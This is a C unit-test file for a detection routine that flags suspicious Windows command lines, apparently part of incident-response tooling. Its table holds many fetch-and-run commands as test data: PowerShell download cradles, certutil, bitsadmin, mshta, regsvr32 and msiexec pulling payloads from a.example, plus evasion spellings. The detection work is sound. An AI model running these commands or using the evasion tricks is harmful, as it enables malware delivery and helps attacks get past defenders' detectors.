/*
 * test_rules: the one command-line matcher (incident_cmdline_match) that
 * the incident's entity flags and the playbook's rules share.  A table of
 * command lines, each with exactly the rules it must fire: every rule has
 * lines that fire it and near misses that must not, including the
 * spellings attackers use to slip past a matcher (Unicode dashes,
 * -Param:Value, .exe suffixes, abbreviations).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "incident.h"
#include "tap.h"

#define CRADLE	INCIDENT_CMD_CRADLE
#define CDL	INCIDENT_CMD_CERTUTIL_DL
#define CDEC	INCIDENT_CMD_CERTUTIL_DECODE
#define BITS	INCIDENT_CMD_BITSADMIN
#define ENC	INCIDENT_CMD_ENCODED
#define BYP	INCIDENT_CMD_BYPASS
#define HID	INCIDENT_CMD_HIDDEN
#define MSHTA	INCIDENT_CMD_MSHTA
#define REGSVR	INCIDENT_CMD_REGSVR32
#define RUNDLL	INCIDENT_CMD_RUNDLL32
#define RUNS	INCIDENT_CMD_RUNS_DOWNLOAD
#define REMOTE	INCIDENT_CMD_REMOTE_PROGRAM

static const struct {
	const char	*image;
	const char	*cmd;
	unsigned	 want;
} table[] = {
	/* PowerShell's switches: any prefix, '-', '/' or a Unicode dash. */
	{ NULL, "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A", ENC },
	{ NULL, "powershell.exe -EncodedCommand SQBFAFgA", ENC },
	{ NULL, "powershell.exe -e SQBFAFgA", ENC },
	{ NULL, "powershell.exe -ec SQBFAFgA", ENC },
	{ NULL, "powershell.exe /enc SQBFAFgA", ENC },
	{ NULL, "powershell.exe \xe2\x80\x93" "enc SQBFAFgA", ENC },
	{ NULL, "powershell.exe \xe2\x80\x94" "EncodedCommand SQBFAFgA", ENC },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	  "-enc SQBFAFgA", ENC },
	{ NULL, "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA",
	  ENC | HID },
	{ NULL, "pwsh -ExecutionPolicy Bypass -File a.ps1", BYP },
	{ NULL, "powershell -ExecutionPolicy:Bypass -File a.ps1", BYP },
	{ NULL, "powershell -ep bypass -File a.ps1", BYP },
	{ NULL, "powershell -exec unrestricted -File a.ps1", BYP },
	{ NULL, "powershell \xe2\x80\x93" "ExecutionPolicy Bypass", BYP },
	{ NULL, "powershell Set-ExecutionPolicy Bypass -Scope Process", BYP },
	{ NULL, "powershell -WindowStyle Hidden -File a.ps1", HID },
	{ NULL, "powershell -w hid -File a.ps1", HID },
	{ NULL, "powershell -win 1 -File a.ps1", HID },
	/* Near misses: no PowerShell, no switch, the wrong value. */
	{ NULL, "notepad.exe -enc SQBFAFgA", 0 },
	{ NULL, "powershell.exe -e", 0 },
	{ NULL, "powershell.exe -File C:\\bypass\\a.ps1", 0 },
	{ NULL, "powershell -ExecutionPolicy RemoteSigned", 0 },
	{ NULL, "powershell -WindowStyle Normal", 0 },
	{ NULL, "powershell.exe -x-enc SQBFAFgA", 0 },
	/* Download cradles. */
	{ NULL, "powershell IEX (New-Object Net.WebClient).DownloadString("
	  "'http://a.example/x')", CRADLE },
	{ NULL, "powershell Invoke-WebRequest -Uri https://a.example/a.exe "
	  "-OutFile a.exe", CRADLE },
	{ NULL, "powershell iwr https://a.example/a.exe -o a.exe", CRADLE },
	{ NULL, "curl.exe -o a.exe https://a.example/a.exe", CRADLE },
	{ NULL, "C:\\Windows\\System32\\curl.exe -s https://a.example/x",
	  CRADLE },
	{ NULL, "wget -O a.exe http://a.example/a.exe", CRADLE },
	{ NULL, "wget.exe http://a.example/a.exe", CRADLE },
	{ NULL, "powershell Start-BitsTransfer -Source http://a.example/a",
	  CRADLE },
	{ NULL, "powershell iwr https://a.example/a.exe -o a.exe; "
	  "Start-Process a.exe", CRADLE | RUNS },
	{ NULL, "curl -o a.txt https://a.example/a.txt; & a.exe",
	  CRADLE | RUNS },
	{ NULL, "curl --version", 0 },
	{ NULL, "C:\\tools\\curlew.exe https://a.example/", 0 },
	{ NULL, "explorer.exe https://a.example/", 0 },
	/* certutil, bitsadmin. */
	{ NULL, "certutil.exe -urlcache -split -f http://a.example/a.exe "
	  "a.exe", CDL },
	{ NULL, "certutil -verifyctl -f -split http://a.example/a", CDL },
	{ NULL, "certutil -decode a.b64 a.exe", CDEC },
	{ NULL, "certutil /decode a.b64 a.exe", CDEC },
	{ NULL, "certutil -hashfile a.exe SHA256", 0 },
	{ NULL, "bitsadmin /transfer job /download /priority high "
	  "http://a.example/a.exe C:\\a.exe", BITS },
	{ NULL, "bitsadmin.exe /addfile job http://a.example/a C:\\a", BITS },
	{ NULL, "bitsadmin /list /allusers", 0 },
	/* mshta, regsvr32, rundll32, msiexec. */
	{ NULL, "mshta.exe http://a.example/a.hta", MSHTA | REMOTE },
	{ NULL, "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\")"
	  "\")", MSHTA },
	{ NULL, "mshta javascript:a=GetObject(\"script:x\")", MSHTA },
	{ NULL, "mshta.exe C:\\apps\\local.hta", 0 },
	{ NULL, "regsvr32 /s /n /u /i:http://a.example/a.sct scrobj.dll",
	  REGSVR | REMOTE },
	{ NULL, "regsvr32.exe /s C:\\x\\scrobj.dll", REGSVR },
	{ NULL, "regsvr32 /s C:\\apps\\plugin.dll", 0 },
	{ NULL, "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication "
	  "\";alert(1)", RUNDLL },
	{ NULL, "rundll32.exe shell32.dll,Control_RunDLL", 0 },
	{ NULL, "msiexec /q /i http://a.example/a.msi", REMOTE },
	{ NULL, "msiexec /i C:\\a.msi", 0 },
	/* Ordinary lines. */
	{ NULL, "\"cmd.exe\" ", 0 },
	{ NULL, "C:\\Windows\\Explorer.EXE", 0 },
	{ NULL, "", 0 },
};

static void
test_table(void)
{
	size_t i;

	for (i = 0; i < sizeof(table) / sizeof(table[0]); i++)
		is_int(incident_cmdline_match(table[i].cmd, table[i].image),
		    table[i].want, table[i].cmd[0] != '\0' ? table[i].cmd :
		    "(empty)");
	is_int(incident_cmdline_match(NULL, NULL), 0, "no command line");
}

static void
test_flags(void)
{
	json_t *flags = json_array();
	char *s;

	/* The entity flags are the same matcher's words. */
	incident_cmdline_flags("powershell \xe2\x80\x93" "enc SQBFAFgA "
	    "-ExecutionPolicy:Bypass", NULL, flags);
	incident_cmdline_flags("curl.exe -o a.exe https://a.example/a.exe",
	    NULL, flags);
	incident_cmdline_flags("bitsadmin /transfer j http://a.example/a C:\\a",
	    NULL, flags);
	s = json_dumps(flags, JSON_COMPACT);
	is_str(s, "[\"encoded_command\",\"execution_policy_bypass\","
	    "\"download_cradle\",\"download_cradle\"]", "flags");
	free(s);
	json_decref(flags);
}

int
main(void)
{
	test_table();
	test_flags();
	return tap_done();
}
